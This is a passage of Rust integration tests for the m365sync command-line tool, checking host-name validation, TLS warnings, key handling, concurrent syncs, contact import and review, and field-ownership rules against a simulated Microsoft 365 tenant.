    assert!(run["error"].as_str().unwrap().contains("nosuch"), "{run}");
    assert!(text(&missing).1.contains("nosuch"));
}

testkit::on_both_stores!(sync_json_prints_json_whatever_happens);

#[test]
fn serve_refuses_a_public_name_that_is_no_host_name() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("store.db");
    let bad_name = m365sync(
        &db,
        &[
            "serve",
            "--listen",
            "127.0.0.1:0",
            "--public-name",
            "not a name",
        ],
        &[],
    );
    assert_eq!(bad_name.status.code(), Some(2));
    assert!(text(&bad_name).1.contains("contacts.example.com"));
}

/// Starts `serve` with `args` and returns it with the first line it writes to standard error.
fn serve_until_it_speaks(db: &Path, args: &[&str], env: &[(&str, &str)]) -> (Child, String) {
    let mut command = Command::new(env!("CARGO_BIN_EXE_m365sync"));
    command
        .arg("--db")
        .arg(db)
        .arg("serve")
        .args(args)
        .env_remove("M365SYNC_PUBLIC_NAME")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    for (k, v) in env {
        command.env(k, v);
    }
    let mut server = command.spawn().unwrap();
    let mut line = String::new();
    BufReader::new(server.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    let mut warning = String::new();
    let beyond_loopback = args
        .iter()
        .any(|a| a.starts_with("0.0.0.0") || a.starts_with("[::]"));
    if beyond_loopback && !args.contains(&"--behind-tls-proxy") {
        BufReader::new(server.stderr.take().unwrap())
            .read_line(&mut warning)
            .unwrap();
    }
    assert!(line.contains("serving"), "{line}{warning}");
    (server, warning)
}

#[test]
fn serving_beyond_loopback_without_tls_warns() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("store.db");
    for listen in ["0.0.0.0:0", "[::]:0"] {
        let (mut server, warning) = serve_until_it_speaks(&db, &["--listen", listen], &[]);
        let _ = server.kill();
        let _ = server.wait();
        assert!(warning.starts_with("warning:"), "{warning}");
        assert!(warning.contains("unencrypted"), "{warning}");
        assert!(warning.contains("--behind-tls-proxy"), "{warning}");
    }
}

#[test]
fn the_first_start_prints_a_one_time_set_up_link() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("store.db");
    let mut server = Command::new(env!("CARGO_BIN_EXE_m365sync"))
        .arg("--db")
        .arg(&db)
        .args(["serve", "--listen", "127.0.0.1:0", "--no-worker"])
        .env_remove("M365SYNC_PUBLIC_NAME")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(server.stdout.take().unwrap()).lines();
    let serving = lines.next().unwrap().unwrap();
    let setup = lines.next().unwrap().unwrap();
    let _ = server.kill();
    let _ = server.wait();
    assert!(serving.contains("serving"), "{serving}");
    assert!(setup.contains("/setup/"), "{setup}");
    assert!(setup.contains("admin create"), "{setup}");

    // Once an admin exists, no link is printed.
    let created = m365sync(
        &db,
        &["admin", "create", "ana", "--password-env", "ANA_PASSWORD"],
        &[("ANA_PASSWORD", "correct horse battery")],
    );
    assert!(created.status.success(), "{:?}", text(&created));
    let short = m365sync(
        &db,
        &["admin", "create", "bob", "--password-env", "BOB_PASSWORD"],
        &[("BOB_PASSWORD", "short")],
    );
    assert_eq!(short.status.code(), Some(2), "{:?}", text(&short));
    assert!(text(&short).1.contains("at least 12"), "{:?}", text(&short));
    let (listed, _) = text(&m365sync(&db, &["admin", "list"], &[]));
    assert!(listed.starts_with("NAME"), "{listed}");
    assert!(
        listed
            .lines()
            .any(|l| l.split_whitespace().take(2).eq(["ana", "admin"])),
        "{listed}"
    );
    let last_admin = m365sync(&db, &["admin", "remove", "ana"], &[]);
    assert_eq!(last_admin.status.code(), Some(1));
    assert!(
        text(&last_admin).1.contains("only admin"),
        "{:?}",
        text(&last_admin)
    );
    let mut server = Command::new(env!("CARGO_BIN_EXE_m365sync"))
        .arg("--db")
        .arg(&db)
        .args(["serve", "--listen", "127.0.0.1:0", "--no-worker"])
        .env_remove("M365SYNC_PUBLIC_NAME")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut out = server.stdout.take().unwrap();
    let mut first = String::new();
    BufReader::new(&mut out).read_line(&mut first).unwrap();
    std::thread::sleep(std::time::Duration::from_millis(500));
    let _ = server.kill();
    let mut rest = String::new();
    let _ = out.read_to_string(&mut rest);
    let _ = server.wait();
    assert!(first.contains("serving"), "{first}");
    assert!(!rest.contains("/setup/"), "{rest}");
}

/// The status code of a GET of `/healthz` naming `host`.
fn status_for_host(port: u16, host: &str) -> String {
    let mut stream = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    stream
        .set_read_timeout(Some(std::time::Duration::from_secs(30)))
        .unwrap();
    write!(
        stream,
        "GET /healthz HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
    )
    .unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).unwrap();
    answer.split(' ').nth(1).unwrap_or_default().to_string()
}

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

#[test]
fn serve_answers_the_public_names_it_is_given() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("store.db");
    let port = free_port();
    let listen = format!("127.0.0.1:{port}");
    let (mut server, _) = serve_until_it_speaks(
        &db,
        &["--listen", &listen, "--public-name", "contacts.example.com"],
        &[("M365SYNC_PUBLIC_NAME", "ignored.example")],
    );
    let statuses: Vec<String> = [
        listen.as_str(),
        "contacts.example.com",
        "ignored.example",
        "evil.example",
    ]
    .iter()
    .map(|host| status_for_host(port, host))
    .collect();
    let _ = server.kill();
    let _ = server.wait();
    assert_eq!(statuses, ["200", "200", "421", "421"]);

    let port = free_port();
    let (mut server, _) = serve_until_it_speaks(
        &db,
        &["--listen", &format!("127.0.0.1:{port}")],
        &[("M365SYNC_PUBLIC_NAME", "a.example, b.example:8443")],
    );
    let statuses: Vec<String> = ["a.example:80", "b.example:8443", "b.example:8080"]
        .iter()
        .map(|host| status_for_host(port, host))
        .collect();
    let _ = server.kill();
    let _ = server.wait();
    assert_eq!(statuses, ["200", "200", "421"]);
}

/// A key is made only with a new store. A store whose secrets were sealed with a key that is
/// now missing, or another, is refused by every command, naming the key it needs and where it
/// looked, and no second key is made; a path that is not a store is refused before anything
/// is written beside it.
#[tokio::test(flavor = "multi_thread")]
async fn a_store_is_never_given_a_second_key_and_a_non_store_is_left_alone() {
    let sim = sim(3).await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("store.db");
    let key_file = dir.path().join("store.db.key");
    let secret = sim.tenants()[0].client_secret.clone();
    assert!(add(&db, &sim, "contoso", &secret).status.success());
    let sealed_with = std::fs::read_to_string(&key_file).unwrap();

    // The key file is lost: nothing runs, and no new key is made.
    std::fs::remove_file(&key_file).unwrap();
    for args in [&["runs"][..], &["connection", "list"], &["sync", "contoso"]] {
        let refused = m365sync(&db, args, &[]);
        let (_, stderr) = text(&refused);
        assert_eq!(refused.status.code(), Some(1), "{args:?}: {stderr}");
        assert!(stderr.contains("sealed with key"), "{stderr}");
        assert!(stderr.contains(&key_file.display().to_string()), "{stderr}");
        assert!(!key_file.exists(), "{args:?} made a new key");
    }
    let again = add(&db, &sim, "fabrikam", &secret);
    assert_eq!(again.status.code(), Some(1), "{:?}", text(&again));
    assert!(!key_file.exists());

    // Another key is refused by id, in the file or in the environment.
    let other = "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=";
    let refused = m365sync(&db, &["runs"], &[("M365SYNC_SECRET_KEY", other)]);
    let (_, stderr) = text(&refused);
    assert_eq!(refused.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("M365SYNC_SECRET_KEY is key"), "{stderr}");

    // The key restored from a backup opens everything again.
    std::fs::write(&key_file, &sealed_with).unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&key_file, std::fs::Permissions::from_mode(0o600)).unwrap();
    }
    let synced = m365sync(&db, &["sync", "contoso"], &[]);
    assert_eq!(synced.status.code(), Some(0), "{:?}", text(&synced));

    // Paths that are not stores: refused with exit 2, nothing written beside them.
    let notes = dir.path().join("notes.txt");
    std::fs::write(&notes, "shopping: milk\n").unwrap();
    let folder = dir.path().join("folder");
    std::fs::create_dir(&folder).unwrap();
    let fifo = dir.path().join("pipe.db");
    assert!(
        Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    let null = std::path::PathBuf::from("/dev/null");
    for path in [&notes, &folder, &fifo, &null] {
        let refused = m365sync(path, &["runs"], &[]);
        let (_, stderr) = text(&refused);
        assert_eq!(refused.status.code(), Some(2), "{path:?}: {stderr}");
        assert!(stderr.contains("--db"), "{stderr}");
        let mut beside = path.as_os_str().to_owned();
        beside.push(".key");
        assert!(
            !Path::new(&beside).exists(),
            "a key was made beside {path:?}"
        );
    }
    assert_eq!(std::fs::read_to_string(&notes).unwrap(), "shopping: milk\n");
    let empty = m365sync(Path::new(""), &["runs"], &[]);
    let (_, stderr) = text(&empty);
    assert_eq!(empty.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("--db is empty"), "{stderr}");
}

/// Commands started while a sync runs in another process leave it running; a second sync of
/// the same connection is refused, naming the first; a sync whose process was killed is marked
/// interrupted by the next command.
#[tokio::test(flavor = "multi_thread")]
async fn a_live_sync_is_left_alone_and_a_killed_one_is_closed() {
    let sim = testkit::simulator(SimConfig {
        seed: 21,
        tenants: vec![TenantSpec::with_users(20)],
        latency: std::time::Duration::from_millis(250),
        ..SimConfig::default()
    })
    .await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("store.db");
    let secret = sim.tenants()[0].client_secret.clone();
    assert!(add(&db, &sim, "contoso", &secret).status.success());
    let start_sync = || {
        Command::new(env!("CARGO_BIN_EXE_m365sync"))
            .arg("--db")
            .arg(&db)
            .args(["sync", "contoso", "--json"])
            .env_remove("M365SYNC_SECRET_KEY")
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap()
    };
    let running_run = || {
        for _ in 0..200 {
            let runs = m365sync(&db, &["runs", "--json"], &[]);
            let (_, stderr) = text(&runs);
            assert!(!stderr.contains("interrupted"), "{stderr}");
            let runs: Value = serde_json::from_slice(&runs.stdout).unwrap();
            if let Some(run) = runs
                .as_array()
                .unwrap()
                .iter()
                .find(|r| r["status"] == "running")
            {
                return run["id"].as_i64().unwrap();
            }
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        panic!("the sync never showed as running");
    };

    let first = start_sync();
    let live = running_run();
    let second = m365sync(&db, &["sync", "contoso"], &[]);
    let (_, stderr) = text(&second);
    assert_eq!(second.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("already syncing"), "{stderr}");
    assert!(stderr.contains(&format!("run {live}")), "{stderr}");
    let exported = m365sync(&db, &["export", "contacts"], &[]);
    assert!(!text(&exported).1.contains("interrupted"));
    let first = first.wait_with_output().unwrap();
    assert_eq!(first.status.code(), Some(0), "{:?}", text(&first));
    let report: Value = serde_json::from_slice(&first.stdout).unwrap();
    assert_eq!(report["run_id"], live);
    assert_eq!(report["status"], "succeeded");

    let mut doomed = start_sync();
    let killed = running_run();
    doomed.kill().unwrap();
    doomed.wait().unwrap();
    let runs = m365sync(&db, &["runs", "--json"], &[]);
    let (_, stderr) = text(&runs);
    assert!(
        stderr.contains("1 sync run(s) were interrupted"),
        "{stderr}"
    );
    let runs: Value = serde_json::from_slice(&runs.stdout).unwrap();
    let closed = runs
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["id"] == killed)
        .unwrap();
    assert_eq!(closed["status"], "failed");
    assert!(closed["message"].as_str().unwrap().contains("interrupted"));
}

/// The README's demo, run twice on one store: the second run's simulator is on another port,
/// and its sync still succeeds (the links saved against the first are dropped with a warning).
#[test]
fn the_demo_runs_twice_on_one_store() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("demo.db");
    for round in 0..2 {
        let mut demo = Command::new(env!("CARGO_BIN_EXE_m365sync"))
            .arg("--db")
            .arg(&db)
            .args(["demo", "--listen", "127.0.0.1:0", "--users", "30"])
            .env_remove("M365SYNC_SECRET_KEY")
            .env_remove("M365SYNC_PUBLIC_NAME")
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut stdout = BufReader::new(demo.stdout.take().unwrap());
        let mut line = String::new();
        let mut ready = false;
        while stdout.read_line(&mut line).unwrap() > 0 {
            if line.contains("demo is ready") {
                ready = true;
                break;
            }
            line.clear();
        }
        demo.kill().unwrap();
        let output = demo.wait_with_output().unwrap();
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(ready, "round {round}: {stderr}");
        assert!(stderr.contains(" succeeded."), "round {round}: {stderr}");
    }
    let runs = m365sync(&db, &["runs", "--json"], &[]);
    let runs: Value = serde_json::from_slice(&runs.stdout).unwrap();
    let second = &runs[0];
    assert_eq!(second["status"], "succeeded", "{second}");
    assert!(
        second["warnings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|w| w["code"] == "delta_link_foreign"),
        "{second}"
    );
}

/// Contacts brought in by hand are linked by the first sync, never duplicated; a user two of
/// them could be waits for review and is settled by a person; every change is in the history.
#[tokio::test(flavor = "multi_thread")]
async fn imported_contacts_are_linked_held_for_review_and_kept_in_history() {
    let sim = sim(20).await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("store.db");
    let tenant = sim.tenants()[0].clone();
    assert!(
        add(&db, &sim, "contoso", &tenant.client_secret)
            .status
            .success()
    );
    let state = sim.state.tenant(&tenant.tenant_id).unwrap();
    let (zero, one, two) = (
        state.user(0).unwrap(),
        state.user(1).unwrap(),
        state.user(2).unwrap(),
    );
    let alias = two
        .proxy_addresses
        .iter()
        .find_map(|a| a.strip_prefix("smtp:"))
        .expect("user 2 has an alias")
        .to_string();
    let other_mail = format!("another.{}", one.upn);
    sim.state.patch_user(
        &tenant.tenant_id,
        1,
        graph_sim::UserPatch {
            mail: Some(other_mail.clone()),
            ..graph_sim::UserPatch::default()
        },
    );

    // One bad row: nothing is imported, and the row is named.
    let csv = dir.path().join("contacts.csv");
    let org = &tenant.display_name;
    std::fs::write(
        &csv,
        format!(
            "organization,display_name,email,job_title\n\
             {org},Hand Made,{},Boss\n\
             {org},,nobody@example.com,\n\
             {long},Far Too Named,far@example.com,\n",
            zero.upn.to_uppercase(),
            long = "n".repeat(201)
        ),
    )
    .unwrap();
    let refused = m365sync(&db, &["import", "contacts", csv.to_str().unwrap()], &[]);
    let (_, stderr) = text(&refused);
    assert_eq!(refused.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("line 3: display_name is empty"), "{stderr}");
    assert!(
        stderr.contains("line 4: organization: the organisation's name is 201 characters long"),
        "{stderr}"
    );
    // A bad --organization is the flag's fault, not a line's.
    let flagged = m365sync(
        &db,
        &[
            "import",
            "contacts",
            csv.to_str().unwrap(),
            "--organization",
            "Flag\u{1}Org",
        ],
        &[],
    );
    let (_, stderr) = text(&flagged);
    assert_eq!(flagged.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("--organization: the organisation's name holds a control character"),
        "{stderr}"
    );
    let contacts = || -> Vec<Value> {
        let out = m365sync(&db, &["export", "contacts"], &[]);
        serde_json::from_slice::<Value>(&out.stdout)
            .unwrap()
            .as_array()
            .unwrap()
            .clone()
    };
    assert!(contacts().is_empty());

    std::fs::write(
        &csv,
        format!(
            "organization,display_name,email,job_title\n\
             {org},Hand Made,{},Boss\n\
             {org},Candidate A,{},\n\
             {org},Candidate B,{other_mail},\n\
             {org},Kept Under An Alias,{alias},\n\
             {org},Hand Made Twice,{},\n",
            zero.upn.to_uppercase(),
            one.upn,
            zero.upn
        ),
    )
    .unwrap();
    let imported = m365sync(&db, &["import", "contacts", csv.to_str().unwrap()], &[]);
    assert!(imported.status.success(), "{:?}", text(&imported));
    // The file names one person twice: one contact.
    assert!(
        text(&imported).0.contains("Imported 4 contacts from")
            && text(&imported).0.contains("1 was there already"),
        "{:?}",
        text(&imported)
    );
    // Importing again changes nothing.
    let again = m365sync(&db, &["import", "contacts", csv.to_str().unwrap()], &[]);
    assert!(
        text(&again).0.contains("5 were there already"),
        "{:?}",
        text(&again)
    );

    let synced = m365sync(&db, &["sync", "contoso", "--json"], &[]);
    let run: Value = serde_json::from_slice(&synced.stdout).unwrap();
    assert_eq!(run["status"], "succeeded", "{run}");
    assert!(
        run["warnings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|w| w["code"] == "users_held_for_review"),
        "{run}"
    );
    // 17 users of their own, the hand-made contacts linked to users 0 and 2, both candidates.
    let after = contacts();
    assert_eq!(after.len(), 21, "{after:?}");
    let by_alias = after
        .iter()
        .find(|c| c["object_id"] == two.id.to_string())
        .expect("user 2 took the contact kept under an alias");
    let by_alias_id = by_alias["id"].to_string();
    let history = m365sync(&db, &["history", "contact", &by_alias_id, "--json"], &[]);
    assert!(
        String::from_utf8_lossy(&history.stdout).contains("proxy_address"),
        "{:?}",
        text(&history)
    );
    let hand_made = after
        .iter()
        .find(|c| c["object_id"] == zero.id.to_string())
        .expect("user 0 took the hand-made contact");
    let history = m365sync(
        &db,
        &["history", "contact", &hand_made["id"].to_string(), "--json"],
        &[],
    );
    let history: Value = serde_json::from_slice(&history.stdout)
        .unwrap_or_else(|e| panic!("{e}: {:?} {hand_made}", text(&history)));
    let fields: Vec<(&str, &str)> = history
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            (
                c["field"].as_str().unwrap(),
                c["note"].as_str().unwrap_or(""),
            )
        })
        .collect();
    assert!(fields.contains(&("contact", "import")), "{history}");
    assert!(fields.contains(&("link", "mail")), "{history}");
    assert!(fields.iter().any(|(f, _)| *f == "jobTitle"), "{history}");

    let queue = m365sync(&db, &["review", "--json"], &[]);
    let queue: Value = serde_json::from_slice(&queue.stdout).unwrap();
    let item = &queue[0];
    assert_eq!(item["object_id"], one.id.to_string(), "{queue}");
    assert_eq!(item["rule"], "mail");
    let candidates = item["candidates"].as_array().unwrap();
    assert_eq!(candidates.len(), 2, "{queue}");
    // For a person: a header, the item on one row, each candidate on a row of its own.
    let (listed, _) = text(&m365sync(&db, &["review"], &[]));
    let lines: Vec<&str> = listed.lines().collect();
    assert!(
        lines[0].starts_with("ITEM") && lines[0].contains("COULD BE CONTACT"),
        "{listed}"
    );
    for candidate in candidates {
        let id = candidate["contact_id"].to_string();
        assert!(
            lines.iter().any(|l| l.contains(&format!("{id} · "))),
            "{id}: {listed}"
        );
    }
    let chosen = candidates
        .iter()
        .find(|c| c["display_name"] == "Candidate B")
        .unwrap()["contact_id"]
        .to_string();
    let settled = m365sync(
        &db,
        &["review", &item["id"].to_string(), "--link", &chosen],
        &[],
    );
    assert!(settled.status.success(), "{:?}", text(&settled));
    // Settled as any link is planned: the rule is the person's, and each field is kept.
    let history = m365sync(&db, &["history", "contact", &chosen, "--json"], &[]);
    let history: Value = serde_json::from_slice(&history.stdout).unwrap();
    let rows: Vec<(&str, &str)> = history
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            (
                c["field"].as_str().unwrap(),
                c["note"].as_str().unwrap_or(""),
            )
        })
        .collect();
    assert!(rows.contains(&("link", "review")), "{history}");
    assert!(rows.iter().any(|(f, _)| *f == "displayName"), "{history}");
    let twice = m365sync(
        &db,
        &["review", &item["id"].to_string(), "--link", &chosen],
        &[],
    );
    assert_eq!(twice.status.code(), Some(1), "{:?}", text(&twice));

    let resynced = m365sync(&db, &["sync", "contoso", "--json", "--full"], &[]);
    let run: Value = serde_json::from_slice(&resynced.stdout).unwrap();
    assert_eq!(run["status"], "succeeded", "{run}");
    assert!(
        run["warnings"]
            .as_array()
            .unwrap()
            .iter()
            .all(|w| w["code"] != "users_held_for_review"),
        "{run}"
    );
    let last = contacts();
    assert_eq!(last.len(), 21, "no contact was added: {last:?}");
    let chosen_id: i64 = chosen.parse().unwrap();
    let linked = last
        .iter()
        .find(|c| c["id"].as_i64() == Some(chosen_id))
        .unwrap();
    assert_eq!(linked["object_id"], one.id.to_string(), "{linked}");
    assert_eq!(linked["display_name"], one.display_name, "{linked}");
    let empty = m365sync(&db, &["review"], &[]);
    assert!(text(&empty).0.contains("Nothing waits for review"));

    // The alias link was wrong: undone, and never made again; user 2 gets a contact of their own.
    let unlinked = m365sync(&db, &["unlink", "contact", &by_alias_id], &[]);
    assert!(unlinked.status.success(), "{:?}", text(&unlinked));
    // A plain sync is enough: the unlink makes the next users round weigh everyone again.
    let resynced = m365sync(&db, &["sync", "contoso", "--json"], &[]);
    let run: Value = serde_json::from_slice(&resynced.stdout).unwrap();
    assert_eq!(run["status"], "succeeded", "{run}");
    let last = contacts();
    assert_eq!(last.len(), 22, "{last:?}");
    let kept = last.iter().find(|c| c["id"] == by_alias["id"]).unwrap();
    assert!(kept["object_id"].is_null(), "{kept}");
    assert_eq!(
        last.iter()
            .filter(|c| c["object_id"] == two.id.to_string())
            .count(),
        1
    );
}

/// A reader that leaves early does not turn a failed sync into a success: the exit code is the
/// run's, as `set -o pipefail` scripts and cron rely on.
#[tokio::test(flavor = "multi_thread")]
async fn a_failed_sync_stays_failed_when_nobody_reads_its_report() {
    let sim = sim(5).await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("store.db");
    assert!(
        add(&db, &sim, "wrong", "Abc8Q~not-the-secret-at-all-000000000")
            .status
            .success()
    );
    for args in [
        &["sync", "wrong", "--json"][..],
        &["sync", "wrong"],
        &["sync", "nosuch", "--json"],
    ] {
        let out = with_reader_gone(&db, args);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {:?}", text(&out));
    }
}

/// `compare contact`: the store beside Microsoft 365 now, as text and JSON, and each case that
/// cannot be compared said in one line with its exit code.
#[tokio::test(flavor = "multi_thread")]
async fn compare_contact_shows_what_differs_and_says_why_it_cannot() {
    let sim = sim(5).await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("store.db");
    let tenant = sim.tenants()[0].clone();
    assert!(
        add_with(
            &db,
            &sim,
            "contoso",
            &tenant.client_secret,
            &["--datasets", "organization,licenses,users"]
        )
        .status
        .success()
    );
    let synced = m365sync(&db, &["sync", "contoso"], &[]);
    assert!(synced.status.success(), "{:?}", text(&synced));
    let state = sim.state.tenant(&tenant.tenant_id).unwrap();
    let (changed, deleted) = (state.user(2).unwrap(), state.user(3).unwrap());
    let contacts: Value =
        serde_json::from_slice(&m365sync(&db, &["export", "contacts"], &[]).stdout).unwrap();
    let id_of = |object_id: String| {
        contacts
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["object_id"] == object_id)
            .unwrap()["id"]
            .to_string()
    };
    let (changed_id, deleted_id) = (id_of(changed.id.to_string()), id_of(deleted.id.to_string()));

    let same = m365sync(&db, &["compare", "contact", &changed_id], &[]);
    assert_eq!(same.status.code(), Some(0), "{:?}", text(&same));
    assert!(
        text(&same)
            .0
            .contains("The store holds what Microsoft 365 says now."),
        "{:?}",
        text(&same)
    );

    sim.state.patch_user(
        &tenant.tenant_id,
        2,
        graph_sim::UserPatch {
            department: Some("Comparisons".into()),
            ..graph_sim::UserPatch::default()
        },
    );
    let shown = m365sync(&db, &["compare", "contact", &changed_id], &[]);
    assert_eq!(shown.status.code(), Some(0), "{:?}", text(&shown));
    let (stdout, _) = text(&shown);
    let marked: Vec<&str> = stdout.lines().filter(|l| l.starts_with('≠')).collect();
    assert_eq!(marked.len(), 1, "{stdout}");
    assert!(marked[0].contains("department"), "{stdout}");
    assert!(stdout.contains("in Microsoft 365: Comparisons"), "{stdout}");
    assert!(stdout.contains("1 field differs"), "{stdout}");
    assert!(stdout.contains("\n  displayName "), "{stdout}");

    let json = m365sync(&db, &["compare", "contact", &changed_id, "--json"], &[]);
    assert_eq!(json.status.code(), Some(0), "{:?}", text(&json));
    let comparison: Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(comparison["differences"], 1, "{comparison}");
    assert_eq!(comparison["connection"], "contoso");
    let differing: Vec<&Value> = comparison["fields"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["differs"] == true)
        .collect();
    assert_eq!(differing.len(), 1, "{comparison}");
    assert_eq!(differing[0]["field"], "department");
    assert_eq!(differing[0]["microsoft"], "Comparisons");
    let licences = comparison["licenses"].as_array().unwrap();
    assert!(!licences.is_empty(), "{comparison}");
    for licence in licences {
        assert_eq!(
            (&licence["stored"], &licence["microsoft"]),
            (&Value::Bool(true), &Value::Bool(true))
        );
        assert!(licence["name"].as_str().is_some_and(|n| !n.is_empty()));
    }

    // The cases that cannot be compared.
    sim.state.remove_user(&tenant.tenant_id, 3);
    let gone = m365sync(&db, &["compare", "contact", &deleted_id], &[]);
    assert_eq!(gone.status.code(), Some(1), "{:?}", text(&gone));
    assert!(
        text(&gone).1.contains(
            "is no longer in Microsoft 365; the next sync marks it deleted (restorable for 30 days) or archives it"
        ),
        "{:?}",
        text(&gone)
    );
    let nobody = m365sync(&db, &["compare", "contact", "99999"], &[]);
    assert_eq!(nobody.status.code(), Some(2), "{:?}", text(&nobody));
    assert!(text(&nobody).1.contains("there is no contact 99999"));
    let csv = dir.path().join("contacts.csv");
    std::fs::write(
        &csv,
        format!(
            "organization,display_name,email\n{},Kept By Hand,hand@example.com\n",
            tenant.display_name
        ),
    )
    .unwrap();
    assert!(
        m365sync(&db, &["import", "contacts", csv.to_str().unwrap()], &[])
            .status
            .success()
    );
    let contacts: Value =
        serde_json::from_slice(&m365sync(&db, &["export", "contacts"], &[]).stdout).unwrap();
    let by_hand = contacts
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["display_name"] == "Kept By Hand")
        .unwrap()["id"]
        .to_string();
    let unlinked = m365sync(&db, &["compare", "contact", &by_hand], &[]);
    assert_eq!(unlinked.status.code(), Some(1), "{:?}", text(&unlinked));
    assert!(
        text(&unlinked)
            .1
            .contains("is not linked to a user; nothing to compare")
    );
    let rotated = m365sync(
        &db,
        &[
            "connection",
            "credential",
            "contoso",
            "--client-secret-env",
            "TEST_SECRET",
        ],
        &[("TEST_SECRET", "9f8e7d6c-5b4a-4392-8170-6f5e4d3c2b1a")],
    );
    assert!(rotated.status.success(), "{:?}", text(&rotated));
    let refused = m365sync(&db, &["compare", "contact", &changed_id], &[]);
    assert_eq!(refused.status.code(), Some(1), "{:?}", text(&refused));
    let (stdout, stderr) = text(&refused);
    assert!(stdout.is_empty(), "{stdout}");
    assert!(stderr.contains("[secret_id_not_value]"), "{stderr}");
    assert_eq!(stderr.trim().lines().count(), 1, "{stderr}");
}

#[tokio::test(flavor = "multi_thread")]
async fn field_mapping_hand_edits_and_owned_fields_in_exports() {
    let sim = sim(3).await;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("store.db");
    let secret = sim.tenants()[0].client_secret.clone();
    assert!(add(&db, &sim, "contoso", &secret).status.success());
    let synced = m365sync(&db, &["sync", "contoso", "--json"], &[]);
    assert_eq!(synced.status.code(), Some(0), "{:?}", text(&synced));

    // Shown: Microsoft 365 owns everything by default.
    let shown = m365sync(&db, &["connection", "mapping", "contoso", "--json"], &[]);
    assert!(shown.status.success(), "{:?}", text(&shown));
    let mapping: Value = serde_json::from_slice(&shown.stdout).unwrap();
    let fields = mapping["fields"].as_array().unwrap();
    assert!(fields.iter().all(|f| f["owner"] == "microsoft_365"));

    let exported = m365sync(&db, &["export", "contacts"], &[]);
    let contacts: Value = serde_json::from_slice(&exported.stdout).unwrap();
    let id = contacts[0]["id"].as_i64().unwrap().to_string();

    // A field Microsoft 365 owns is refused, with the reason and the fix.
    let refused = m365sync(&db, &["contact", "set", &id, "jobTitle", "By hand"], &[]);
    assert_eq!(refused.status.code(), Some(1), "{:?}", text(&refused));
    let (_, err) = text(&refused);
    assert!(err.contains("Microsoft 365 owns jobTitle"), "{err}");
    assert!(err.contains("--local jobTitle"), "{err}");

    // Identity fields cannot be given away.
    let upn = m365sync(
        &db,
        &[
            "connection",
            "mapping",
            "contoso",
            "--local",
            "userPrincipalName",
        ],
        &[],
    );
    assert_eq!(upn.status.code(), Some(2), "{:?}", text(&upn));
    assert!(text(&upn).1.contains("always owns it"), "{:?}", text(&upn));

    let set = m365sync(
        &db,
        &[
            "connection",
            "mapping",
            "contoso",
            "--local",
            "jobTitle",
            "--to-custom",
            "department=Cost centre",
        ],
        &[],
    );
    assert!(set.status.success(), "{:?}", text(&set));
    let (out, _) = text(&set);
    assert!(out.contains("into custom field 'Cost centre'"), "{out}");

    let edited = m365sync(&db, &["contact", "set", &id, "jobTitle", "By hand"], &[]);
    assert!(edited.status.success(), "{:?}", text(&edited));
    let note = m365sync(
        &db,
        &["contact", "set", &id, "--custom", "Desk", "4.12"],
        &[],
    );
    assert!(note.status.success(), "{:?}", text(&note));
    let owned_custom = m365sync(
        &db,
        &["contact", "set", &id, "--custom", "Cost centre", "X"],
        &[],
    );
    assert_eq!(owned_custom.status.code(), Some(1));
    let history = m365sync(&db, &["history", "contact", &id, "--json"], &[]);
    let history: Value = serde_json::from_slice(&history.stdout).unwrap();
    assert!(
        history
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c["field"] == "jobTitle"
                && c["new"] == "By hand"
                && c["note"] == "by hand"
                && c["run_id"].is_null())
    );

    // A contact that does not exist is an error, not an empty history.
    let nobody = m365sync(&db, &["history", "contact", "999999"], &[]);
    assert_eq!(nobody.status.code(), Some(2), "{:?}", text(&nobody));
    assert!(text(&nobody).1.contains("there is no contact 999999"));

    let synced = m365sync(&db, &["sync", "contoso", "--json"], &[]);
